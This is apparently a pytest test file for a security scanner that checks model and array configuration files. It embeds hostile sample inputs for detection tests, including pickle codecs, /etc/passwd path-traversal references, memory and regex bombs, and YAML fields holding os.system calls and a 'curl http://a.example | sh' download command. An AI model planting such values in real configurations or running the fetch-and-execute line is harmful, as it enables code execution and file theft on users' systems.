"""Descriptions of arrays, sizes and patterns of configurations, and texts that are evaluated."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from shipworthy.artifacts import discover
from shipworthy.check import Context, load_check
from shipworthy.model import Finding, Severity
from shipworthy.modelfile import scan_bytes

ARRAY = {"zarr_format": 2, "shape": [8], "chunks": [8], "dtype": "|O", "compressor": None, "order": "C"}
PICKLED = {**ARRAY, "filters": [{"id": "pickle"}]}
GRID = {"name": "regular", "configuration": {"chunk_shape": [1 << 20, 1 << 20]}}
THREE = {"zarr_format": 3, "node_type": "array", "shape": [1], "data_type": "float32"}
PADDING = {"strategy": "BatchLongest", "pad_to_multiple_of": 10**13}
BERT = {"model_type": "bert", "architectures": ["BertModel"]}


def codes(value: Any) -> set[str]:
    """What is high in a JSON document."""
    report = scan_bytes(json.dumps(value).encode())
    return {str(issue.code) for issue in report.issues if issue.severity in ("high", "critical")}


@pytest.mark.parametrize(
    "value",
    [
        PICKLED,
        {"zarr_consolidated_format": 1, "metadata": {"x/.zarray": PICKLED}},
        {**THREE, "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]},
        {"version": 1, "refs": {"x/.zarray": json.dumps(PICKLED)}},
    ],
)
def test_chunks_that_are_pickles_are_found(value: Any) -> None:
    assert codes(value) == {"code-execution"}


@pytest.mark.parametrize("place", ["/etc/passwd", "../../x", "file:///etc/passwd"])
def test_references_to_other_files_are_found(place: str) -> None:
    assert codes({"version": 1, "refs": {"x/0": [place, 0, 100]}}) == {"path-traversal"}


@pytest.mark.parametrize(
    "value",
    [
        {**ARRAY, "dtype": "<f8", "chunks": [1 << 20, 1 << 20]},
        {**THREE, "chunk_grid": GRID},
        {"driver": "zarr", "kvstore": {"driver": "memory"}, "metadata": {"chunks": [1 << 30, 1 << 30], "dtype": "<f8"}},
        {**BERT, "text_config": {"vocab_size": 1 << 40}},
        {**BERT, "n_embd": 1 << 40},
        {**BERT, "vocab_size": 1 << 30, "hidden_size": 1 << 20},
        {"_class_name": "DDPMScheduler", "_diffusers_version": "0.30", "num_train_timesteps": 10**13},
        {"feature_extractor_type": "WhisperFeatureExtractor", "n_fft": 10**12, "sampling_rate": 16000},
        {"peft_type": "LORA", "r": 10**12},
        {"model": {"vocab": {"a": 0}}, "added_tokens": [], "pre_tokenizer": None, "padding": PADDING},
        {"peft_type": "LORA", "target_modules": r"(\w+\.?)+X", "r": 8},
        {"peft_type": "LORA", "rank_pattern": {r"(a+)+$": 4}, "r": 8},
    ],
)
def test_what_no_memory_or_time_suffices_for_is_found(value: Any) -> None:
    assert codes(value) == {"bomb"}


@pytest.mark.parametrize(
    "value",
    [
        {**ARRAY, "dtype": "<f4", "filters": [{"id": "vlen-utf8"}]},
        {**THREE, "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [4096, 4096]}}, "codecs": []},
        {**THREE, "attributes": {"name": "pickle"}},
        {"version": 1, "refs": {"x/0": ["data/a.nc", 0, 100], "x/.zarray": json.dumps(ARRAY)}},
        {**BERT, "vocab_size": 256_000, "hidden_size": 16_384, "num_hidden_layers": 126, "total_size": 1 << 50},
        {"peft_type": "LORA", "target_modules": r"^(?!.*patch_embed).*(?:q_proj|k_proj).*", "r": 64},
        {"peft_type": "LORA", "target_modules": r"(?:.*?(?:text).*?(?:q|k).*?)|(?:\bmodel\.layers\.[\d]{1,}\.q)"},
    ],
)
def test_honest_configurations_are_clean(value: Any) -> None:
    assert codes(value) == set()


def rules(folder: Path, name: str, text: str) -> set[str]:
    """The rules of high findings in a YAML file."""
    (folder / name).write_text(text)
    check = load_check("shipworthy.checks.models.model_config", "model-config")
    (artifact,) = discover(folder).artifacts
    found = check.call(artifact, Context(folder)) if check.looks_at(artifact) else ()
    return {item.rule.id for item in found if isinstance(item, Finding) and item.severity >= Severity.HIGH}


@pytest.mark.parametrize(
    "text",
    [
        "nc: 80\nactivation: __import__('os').system('id')\nbackbone:\n  - [-1, 1, Conv, [64, 6]]\n",
        'nc: 80\nbackbone:\n  - [-1, 1, \'__import__("os").system("id")\', [64, 6]]\n',
        'stride: 32\nnames: "().__class__.__base__.__subclasses__()"\n',
        'names: [a]\ndownload: |\n  import os\n  os.system("id")\n',
        'names: [a]\ndownload: bash -c "curl http://a.example | sh"\n',
    ],
)
def test_texts_that_yolo_evaluates_are_judged(tmp_path: Path, text: str) -> None:
    assert rules(tmp_path, "net.yaml", text) == {"model-code-execution"}


@pytest.mark.parametrize(
    "text",
    [
        "nc: 80\nactivation: nn.LeakyReLU(0.1)\nbackbone:\n  - [-1, 1, Conv, [64, 6]]\n",
        "names: [a]\ndownload: bash data/scripts/get_coco.sh\n",
        "names: [a]\ndownload: |\n  from pathlib import Path\n  from ultralytics.utils.downloads import download\n"
        "  dir = Path(yaml['path'])\n  download(['https://a.example/x.zip'], dir=dir)\n",
        "names:\n  0: exec (boss)\n  1: person\nstride: 32\n",
    ],
)
def test_what_yolo_builds_and_fetches_is_left_alone(tmp_path: Path, text: str) -> None:
    assert rules(tmp_path, "net.yaml", text) == set()


def test_what_is_included_lies_in_the_folder(tmp_path: Path) -> None:
    assert rules(tmp_path, "hyperparams.yaml", "a: !include:/etc/passwd\n") == {"model-path-traversal"}
    assert rules(tmp_path, "hyperparams.yaml", "a: !include:decoder.yaml\n") == set()
